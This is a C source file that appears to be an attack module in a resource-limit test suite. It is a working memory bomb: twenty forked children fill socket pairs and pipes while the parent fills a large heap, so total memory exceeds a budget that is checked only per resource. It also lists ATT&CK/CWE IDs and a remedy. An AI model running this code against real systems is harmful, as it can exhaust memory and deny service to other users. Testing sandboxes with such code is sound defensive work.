// SPDX-License-Identifier: MIT
/*
 * bit-of-each.c - a memory bomb of parts that nobody minds.
 *
 * Goal: more memory than the budget.
 * Means: a budget for resident memory, a number of socket pairs, a limit on pipes: each is kept.
 * Twenty children hold 70 MiB in pairs of sockets and 32 MiB in pipes, their parent has 240 MiB in
 * its heap, and who has a limit for each and none for the sum lets 340 MiB through.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHILDREN = 20, PAIRS = 9, PIPES = 25, HEAP = 240 << 20, PAGE = 4096 };

/* Fill what this end leads to, as far as it goes. */
static void fill(int end)
{
	static char letter[32768];

	fcntl(end, F_SETFL, O_NONBLOCK);
	while (write(end, letter, sizeof(letter)) > 0)
		continue;
}

static _Noreturn void hoard(int full)
{
	int pair[2];

	for (int i = 0; i < PAIRS && !socketpair(AF_UNIX, SOCK_STREAM, 0, pair); i++) {
		fill(pair[0]);
		fill(pair[1]);
	}
	for (int i = 0; i < PIPES && !pipe(pair); i++) {
		fill(pair[1]);
		close(pair[1]);
	}
	_exit(write(full, "f", 1) == 1 && sleep(5));
}

static enum claim run(const struct brief *b)
{
	volatile char *heap = malloc(HEAP); /* volatile: nobody reads it */
	pid_t child[CHILDREN];
	enum claim claim;
	int full[2], n = 0;
	char byte;

	if (!heap)
		return denied("malloc");
	if (pipe(full))
		return failed("pipe");
	attempting(b);
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0)
			hoard(full[1]);
	claim = n < CHILDREN ? denied("fork") : CLAIM_DONE;
	for (int i = 0; claim == CLAIM_DONE && i < n && read(full[0], &byte, 1) == 1; i++)
		continue;
	for (size_t at = 0; claim == CLAIM_DONE && at < HEAP; at += PAGE)
		heap[at] = 'x';
	if (claim == CLAIM_DONE)
		claim = hold();
	while (n-- > 0)
		kill(child[n], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more memory than the budget, in three places",
	.means = "pairs of sockets, pipes and a heap, each within its own limit",
	.oracle = "usage:memory",
	.threshold = 302ull << 20, /* a watch of the sum ends it at 285, one of the parts at 320 */
	.attack_id = "T1499.001,CWE-770",
	.remedy = "one budget for all of it; a memory cgroup with kernel memory",
	.refs = (const char *const[]){ "pipe(7): pipe-user-pages-soft", "unix(7)", NULL },
	.run = run,
};
